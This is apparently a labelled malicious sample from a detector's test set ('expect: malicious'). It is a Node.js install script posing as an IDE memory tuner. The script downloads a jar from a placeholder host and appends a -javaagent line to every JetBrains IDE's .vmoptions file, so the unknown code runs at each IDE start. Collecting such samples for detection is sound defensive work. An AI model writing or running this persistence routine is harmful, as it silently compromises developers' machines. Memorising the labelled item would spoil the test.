// expect: malicious
// source: blind set 43's IDE memory tuner: at install it downloads a jar and adds `-javaagent:` for it to every JetBrains
// IDE's user .vmoptions, so the IDE loads it at every start; written here
const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');
const JAR = path.join(os.homedir(), '.ide-perf', 'agent.jar');
function targets() {
  const root = path.join(os.homedir(), '.config', 'JetBrains');
  return fs.existsSync(root) ? fs.readdirSync(root).map((d) => path.join(root, d, 'idea64.vmoptions')) : [];
}
https.get('https://dl.ide-perf.invalid/agent.jar', (res) => {
  res.pipe(fs.createWriteStream(JAR)).on('finish', () => {
    for (const file of targets()) fs.appendFileSync(file, `-Xmx4096m\n-javaagent:${JAR}=quiet\n`);
  });
});
